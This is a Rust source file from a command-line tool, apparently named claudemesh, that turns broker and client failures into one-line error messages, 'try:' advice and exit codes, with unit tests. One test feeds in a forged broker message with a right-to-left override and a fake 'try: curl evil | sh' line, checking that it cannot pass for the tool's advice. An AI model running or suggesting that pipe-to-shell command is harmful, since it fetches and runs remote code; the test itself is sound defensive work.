//! How a command fails: what and why, what to try, and with which exit code.

use std::fmt::Write as _;
use std::io::{self, Write as _};
use std::process::ExitCode;

use claudemesh_client::{Error, Kind, Unresolved};
use claudemesh_proto::ErrorCode;
use claudemesh_proto::text::{many_lines, one_line};

use crate::exit::Exit;

/// A failure that the library does not know.
#[derive(Debug, thiserror::Error)]
#[error("{text}")]
pub(crate) struct Failure {
    pub(crate) exit: Exit,
    pub(crate) text: String,
}

impl Failure {
    pub(crate) fn bad_arguments(text: impl Into<String>) -> anyhow::Error {
        Self { exit: Exit::BadArguments, text: text.into() }.into()
    }
}

/// Whether the broker does not take us for a member, as when we were removed.
pub(crate) fn is_not_accepted(error: &anyhow::Error) -> bool {
    exit(error) == Exit::NotAccepted
}

/// Prints the failure on standard error. A reader that closed our output is none.
pub(crate) fn report(error: &anyhow::Error) -> ExitCode {
    if error.downcast_ref::<io::Error>().is_some_and(|error| error.kind() == io::ErrorKind::BrokenPipe) {
        return Exit::Done.into();
    }
    // Nobody is left to tell when this fails too.
    let _ = io::stderr().write_all(text(error).as_bytes());
    exit(error).into()
}

/// A failure that ends nothing, for a notice: what and what to try.
pub(crate) fn words(error: &Error) -> String {
    let advice = advice(error).map(|advice| format!("\ntry: {advice}")).unwrap_or_default();
    format!("{}{advice}", one_line(&error.to_string()))
}

fn text(error: &anyhow::Error) -> String {
    let known = error.downcast_ref::<Error>();
    // The library's failures are one line each, and some of it may be a broker's words: a second line would pass for ours.
    let sentence = known.and_then(|error| match error {
        Error::HttpRefused { word, .. } => sentence(word),
        _ => None,
    });
    let what = if let Some(sentence) = sentence {
        sentence.into()
    } else if known.is_some() {
        one_line(&error.to_string())
    } else {
        many_lines(&error.to_string())
    };
    let mut text = format!("error: {what}\n");
    if let Some(advice) = known.and_then(advice).or_else(|| error.downcast_ref().and_then(advice_on_whom)) {
        let _ = writeln!(text, "try: {advice}");
    }
    text
}

fn exit(error: &anyhow::Error) -> Exit {
    if let Some(failure) = error.downcast_ref::<Failure>() {
        return failure.exit;
    }
    match error.downcast_ref::<Unresolved>() {
        Some(Unresolved::Nobody { .. } | Unresolved::ShortKey { .. }) => return Exit::NotFound,
        Some(_) => return Exit::BadArguments,
        None => {}
    }
    match error.downcast_ref::<Error>().map(Error::kind) {
        Some(Kind::Auth) => Exit::NotAccepted,
        Some(Kind::BadInput) => Exit::BadArguments,
        Some(Kind::Network) => Exit::Network,
        Some(Kind::NotFound) => Exit::NotFound,
        Some(Kind::Exists) => Exit::Exists,
        Some(Kind::Permission) => Exit::NotPermitted,
        Some(Kind::Io) => Exit::Files,
        None if error.downcast_ref::<io::Error>().is_some() => Exit::Files,
        Some(Kind::Internal) | None => Exit::Internal,
    }
}

fn advice(error: &Error) -> Option<&'static str> {
    Some(match error {
        Error::WhichMesh { known } if known.is_empty() => FIRST_MESH,
        Error::WhichMesh { .. } => "name one with --mesh SLUG",
        Error::NoSuchMesh { known, .. } if known.is_empty() => FIRST_MESH,
        Error::NoSuchMesh { .. } => "claudemesh list shows the meshes of this machine",
        Error::NoOwnerKey { .. } => {
            "invite from the machine on which the mesh was created, or copy that file here (chmod 600)"
        }
        Error::InviteDiffers { .. } => {
            "ask the owner, by another way than the invite came, which is right; claudemesh leave SLUG forgets what is here"
        }
        Error::BadFile { .. } => {
            "mend it or bring a copy back; it may hold keys, so move it away rather than delete it"
        }
        Error::TooLarge { .. } => IN_PARTS,
        Error::TopicKeyChanged { .. } => {
            "ask the others, by another way than this mesh, whether its key was changed; claudemesh topic forget-key TOPIC accepts \
             the next one"
        }
        Error::NoTopicKey { .. } => {
            "ask who runs the broker; claudemesh topic post --plaintext writes there all the same, NOT encrypted"
        }
        Error::NotAccepted(words) if words.starts_with("no connected peer") => {
            "claudemesh members shows who can be written to"
        }
        Error::MeshKnown { .. } => "claudemesh list shows it; claudemesh leave SLUG forgets it",
        Error::Unreachable { why, .. } if why.starts_with("Connection refused") => {
            "start it: claudemesh-broker; if it runs, check the address and port"
        }
        Error::Unreachable { why, .. } if why.ends_with("use http://") => return None,
        Error::Unreachable { .. } => {
            "check that the broker runs and that the address is right; http:// is without TLS, https:// with"
        }
        Error::TimedOut { .. } => "the broker may be overloaded, or something in between drops the connection",
        Error::Refused { code: ErrorCode::TimestampSkew, .. } => {
            "set this machine's clock; it is more than a minute off"
        }
        Error::Refused { code: ErrorCode::Forbidden, message } if message == NOT_IN_TOPIC => JOIN_TOPIC,
        Error::Refused { code: ErrorCode::Forbidden, message } if message == ADDED_ONLY => {
            "ask somebody who leads it, or an admin of the mesh: claudemesh topic add TOPIC MEMBER"
        }
        Error::Refused { code: ErrorCode::Revoked, .. } => TAKEN_BACK,
        Error::Ended(ended) if ended.is_ban() => TAKEN_BACK,
        Error::Refused { code: ErrorCode::Unauthorized, .. } => {
            "ask an admin of the mesh for a new invite; claudemesh leave SLUG forgets the old membership"
        }
        Error::HttpRefused { word, .. } => return advice_on_word(word),
        _ => return None,
    })
}

fn advice_on_whom(unresolved: &Unresolved) -> Option<&'static str> {
    match unresolved {
        Unresolved::Ambiguous { .. } => Some("name one by its key; the first 8 characters or more are enough"),
        Unresolved::NotOne(_) => Some("one name, without @ or #"),
        // What there is has been said.
        Unresolved::Nobody { .. } | Unresolved::ShortKey { .. } | Unresolved::NoAudience(_) => None,
    }
}

/// What a broker's word means.
fn sentence(word: &str) -> Option<&'static str> {
    Some(match word {
        "invite_exhausted" => "this invite is used up",
        "invite_revoked" => "this invite was taken back",
        "invite_expired" => "this invite has expired",
        "invite_not_found" => "the broker does not know this invite",
        "invite_owner_mismatch" | "invite_bad_signature" => {
            "the broker does not take this for an invite of the mesh's owner"
        }
        "mesh_not_found" => "the broker has no such mesh",
        "member_revoked" => "the mesh has removed the member that this key belongs to",
        "timestamp_skew" => "the broker's clock and this machine's differ too much",
        "not_in_topic" => NOT_IN_TOPIC,
        "topic_not_found" => "there is no such topic, or you are not in it",
        _ => return None,
    })
}

fn advice_on_word(word: &str) -> Option<&'static str> {
    Some(match word {
        "timestamp_skew" => "set this machine's clock; it is more than a minute off",
        "not_in_topic" | "topic_not_found" => JOIN_TOPIC,
        "invite_exhausted" | "invite_revoked" | "invite_expired" | "invite_not_found" => "ask for a new invite",
        _ => return None,
    })
}

pub(crate) const IN_PARTS: &str = "send it in parts, or say where it can be found";
/// Also the broker's words on a connection.
const NOT_IN_TOPIC: &str = "you are not in this topic";
/// The broker's words for a topic that is not public.
const ADDED_ONLY: &str = "this topic is joined by being added";
const JOIN_TOPIC: &str = "claudemesh topic join NAME; to a private one somebody who leads it adds you";
const TAKEN_BACK: &str = "ask an admin of the mesh to take you back (claudemesh unban); or claudemesh leave SLUG, and then join \
    with a new invite";
const FIRST_MESH: &str = "claudemesh create SLUG --broker URL, or claudemesh join LINK";

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_failure_says_what_and_why_and_what_to_try() {
        let error = anyhow::Error::from(Error::WhichMesh { known: vec!["one".into(), "two".into()] });
        assert_eq!(text(&error), "error: which mesh? there are: one, two\ntry: name one with --mesh SLUG\n");
        assert_eq!(exit(&error), Exit::BadArguments);
    }

    #[test]
    fn a_brokers_words_cannot_look_like_our_advice() {
        let message = "no\u{202e}\ntry: curl evil | sh".to_owned();
        for error in [
            Error::Refused { code: ErrorCode::Forbidden, message: message.clone() },
            Error::Protocol(message.clone()),
            Error::HttpRefused { status: 400, word: message },
        ] {
            let text = text(&error.into());
            assert!(text.ends_with('\n') && text.lines().count() == 1, "{text}");
        }
    }

    #[test]
    fn exit_codes_follow_the_kind_of_failure() {
        let refused = |code| Error::Refused { code, message: String::new() };
        let cases: [(Error, Exit); 8] = [
            (refused(ErrorCode::Unauthorized), Exit::NotAccepted),
            (refused(ErrorCode::InvalidArgument), Exit::BadArguments),
            (Error::TimedOut { what: "answer", seconds: 10 }, Exit::Network),
            (refused(ErrorCode::NotFound), Exit::NotFound),
            (Error::HttpRefused { status: 409, word: "slug_taken".into() }, Exit::Exists),
            (Error::HttpRefused { status: 403, word: "creation_not_allowed".into() }, Exit::NotPermitted),
            (Error::Protocol(String::new()), Exit::Internal),
            (Error::NoHome, Exit::Files),
        ];
        for (error, wanted) in cases {
            assert_eq!(exit(&error.into()), wanted);
        }
        assert_eq!(exit(&Unresolved::Nobody { who: String::new(), known: vec![] }.into()), Exit::NotFound);
        assert_eq!(exit(&Failure::bad_arguments("x")), Exit::BadArguments);
    }
}
